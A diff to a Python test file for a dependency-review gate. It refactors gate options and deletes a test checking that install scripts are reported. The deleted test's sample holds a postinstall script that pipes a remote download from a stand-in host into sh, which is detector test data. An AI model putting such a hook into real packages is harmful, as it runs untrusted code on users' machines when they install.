@@ -28,6 +28,8 @@ from tests.review.changes import changed
 
 SHA = "0123456789" * 4
 HOST = "https://registry.example"
+# Gates that look at the same files.
+OTHERS_OFF = {"secrets": "off", "runs_by_itself": "off"}
 
 
 class Graph:
@@ -62,7 +64,7 @@ def gate(
         base={**still, **{path: old.encode() for path, (old, _) in files.items() if old}},
         forge=forge or Graph(),
     )
-    given = {"secrets": "off", "dependencies": {"level": "error", **options}}
+    given = {**OTHERS_OFF, "dependencies": {"level": "error", **options}}
     done = asyncio.run(QualityGates.model_validate(given).run(task))
     assert isinstance(done, Done)
     assert done.shortfalls == ()
@@ -342,21 +344,6 @@ def test_a_version_that_left_the_registry_in_the_lock_alone_is_a_warning():
     files["package.json"] = (manifest(a="1", b="1"), asked)
     # Then the manifest is where people look.
     assert [one[:3] for one in told(gate(files))] == [("source", "warning", "package.json")]
-
-
-@pytest.mark.parametrize(
-    ("script", "severity"),
-    [
-        ('"postinstall": "curl https://e.example/x | sh"', "warning"),
-        ('"preinstall": "node setup.js"', "notice"),
-    ],
-)
-def test_a_script_that_an_install_runs_is_reported(script, severity):
-    old = '{\n  "scripts": {\n    "test": "jest"\n  }\n}\n'
-    new = old.replace('"jest"', f'"jest",\n    {script}')
-    assert told(gate({"package.json": (old, new)})) == [
-        ("install_script", severity, "package.json", 4)
-    ]
 
 
 def test_a_script_that_moved_or_a_dependency_of_such_a_name_is_none():
@@ -720,7 +707,7 @@ def test_a_lock_whose_base_cannot_be_had_is_a_note():
         {"package-lock.json": new.encode()},
         base={"package-lock.json": Absent.TOO_LARGE},
     )
-    done = asyncio.run(QualityGates.model_validate({"secrets": "off"}).run(task))
+    done = asyncio.run(QualityGates.model_validate(OTHERS_OFF).run(task))
     assert done.notes == (
         "Dependencies not read: package-lock.json: its content is too large",
         "Advisories unavailable: there is no GitHub to ask",
@@ -751,7 +738,7 @@ def test_a_lock_full_of_one_name_is_compared_soon():
         {"Cargo.lock": after.encode()},
         base={"Cargo.lock": before.encode()},
     )
-    done = asyncio.run(QualityGates.model_validate({"secrets": "off"}).run(task))
+    done = asyncio.run(QualityGates.model_validate(OTHERS_OFF).run(task))
     assert len(done.findings) == 3
 
 
